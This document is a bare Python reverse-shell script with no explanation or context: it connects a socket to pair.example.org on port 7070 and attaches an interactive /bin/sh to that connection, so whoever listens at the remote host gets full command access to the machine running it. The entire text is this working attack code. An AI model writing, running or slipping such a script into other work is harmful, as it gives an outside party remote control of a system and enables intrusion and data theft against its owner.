import socket, subprocess

s = socket.socket()
s.connect(("pair.example.org", 7070))
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
